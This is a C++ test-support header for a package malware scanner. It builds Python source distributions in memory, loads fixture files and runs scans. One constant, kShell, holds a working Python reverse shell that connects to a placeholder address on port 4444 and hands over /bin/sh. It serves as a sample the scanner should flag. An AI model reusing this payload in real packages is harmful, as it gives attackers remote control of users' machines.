// Packages made in memory for tests of the whole way from bytes to findings.
#pragma once

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <string>
#include <utility>
#include <vector>

#include "artifact/artifact.h"
#include "artifact/testing/archive_builder.h"
#include "pipeline/jobs.h"
#include "pipeline/scan.h"

namespace antivenom::test_support {

struct File {
  std::string path, text;
};

inline std::string read_file(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  return {std::istreambuf_iterator<char>(in), {}};
}

// An sdist `sample-1.0` with these files.
inline Bytes sdist_of(const std::vector<File>& files) {
  testing::TarBuilder tar;
  tar.add("sample-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n");
  for (const File& file : files) tar.add("sample-1.0/" + file.path, file.text);
  return testing::gzipped(tar.finished());
}

// An sdist of one module.
inline Bytes version_of(const std::string& name, const std::string& version, const std::string& text) {
  testing::TarBuilder tar;
  const std::string root = name + "-" + version + "/";
  tar.add(root + "PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n");
  tar.add(root + name + "/__init__.py", text);
  return testing::gzipped(tar.finished());
}

// What makes a module malicious beyond doubt. It leads nowhere.
inline constexpr std::string_view kShell =
    "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
    "for d in (0, 1, 2):\n    os.dup2(s.fileno(), d)\nsubprocess.call(['/bin/sh', '-i'])\n";

// Scans on a worker's stack: the main thread's is too small for what the interpreter's budget allows.
inline ScanResult scan_files(const std::vector<File>& files, const ScanOptions& options = {}) {
  ScanResult result;
  const std::string targets[] = {"sample-1.0.tar.gz"};
  run_jobs(
      targets, {1},
      [&](const std::string& target) {
        Outcome outcome;
        outcome.result = scan(sdist_of(files), target, options);
        return outcome;
      },
      [&](size_t, Outcome&& outcome) { result = std::move(outcome.result); });
  return result;
}

// "89 50 4e" -> bytes; what is no digit is passed over.
inline std::string from_hex(std::string_view text) {
  std::string bytes;
  int high = -1;
  for (char c : text) {
    const int digit = c >= '0' && c <= '9' ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
    if (digit < 0) continue;
    if (high >= 0) bytes += static_cast<char>(high * 16 + digit);
    high = high < 0 ? digit : -1;
  }
  return bytes;
}

// All files below a folder, sorted by path. What is not text is kept readable and made here: the folder `x.zip` becomes
// the archive x.zip of its files, `x.png.hex` the file x.png.
inline std::vector<File> read_tree(const std::filesystem::path& folder) {
  namespace fs = std::filesystem;
  std::vector<File> files;
  std::map<std::string, testing::ZipBuilder> archives;
  for (const auto& entry : fs::recursive_directory_iterator(folder)) {
    if (!entry.is_regular_file()) continue;
    const std::string path = fs::relative(entry.path(), folder).generic_string();
    constexpr std::string_view kZip = ".zip/", kHex = ".hex";
    if (const size_t zip = path.find(kZip); zip != std::string::npos) {
      archives[path.substr(0, zip + kZip.size() - 1)].add(path.substr(zip + kZip.size()), read_file(entry.path()));
    } else if (path.ends_with(kHex)) {
      files.push_back({path.substr(0, path.size() - kHex.size()), from_hex(read_file(entry.path()))});
    } else {
      files.push_back({path, read_file(entry.path())});
    }
  }
  for (auto& [path, archive] : archives) files.push_back({path, archive.finished()});
  std::sort(files.begin(), files.end(), [](const File& a, const File& b) { return a.path < b.path; });
  return files;
}

// A fixture's file TWICE names members that its archive holds a second time, with other content.
inline void add_second_copies(std::vector<File>& files) {
  const auto list = std::find_if(files.begin(), files.end(), [](const File& file) { return file.path == "TWICE"; });
  if (list == files.end()) return;
  const std::string names = list->text;
  files.erase(list);
  for (size_t i = 0, count = files.size(); i < count; ++i)
    if (names.find(files[i].path + "\n") != std::string::npos) files.push_back({files[i].path, "# second copy\n"});
}

// A fixture: `stem.py`, shipped as sample/__init__.py or as its first line says (`# file: setup.py`), or the folder
// `stem` with a package tree. Empty if there is neither.
inline std::vector<File> read_fixture(const std::filesystem::path& stem) {
  namespace fs = std::filesystem;
  std::vector<File> files;
  const fs::path single = stem.string() + ".py";
  if (fs::exists(single)) {
    constexpr std::string_view kMark = "# file: ";
    std::string text = read_file(single);
    std::string path = "sample/__init__.py";
    if (text.starts_with(kMark)) {
      path = text.substr(kMark.size(), text.find_first_of("\r\n") - kMark.size());
      while (path.ends_with(' ')) path.pop_back();
    }
    files.push_back({std::move(path), std::move(text)});
  } else if (fs::is_directory(stem)) {
    files = read_tree(stem);
    add_second_copies(files);
  }
  return files;
}

// "path:line" of every line that holds `mark`, sorted.
inline std::vector<std::string> marked_lines(const std::vector<File>& files, std::string_view mark) {
  std::vector<std::string> lines;
  for (const File& file : files) {
    size_t number = 1;
    for (size_t begin = 0; begin < file.text.size(); ++number) {
      const size_t end = std::min(file.text.find('\n', begin), file.text.size());
      if (std::string_view(file.text).substr(begin, end - begin).find(mark) != std::string_view::npos) {
        lines.push_back(file.path + ":" + std::to_string(number));
      }
      begin = end + 1;
    }
  }
  std::sort(lines.begin(), lines.end());
  return lines;
}

}  // namespace antivenom::test_support
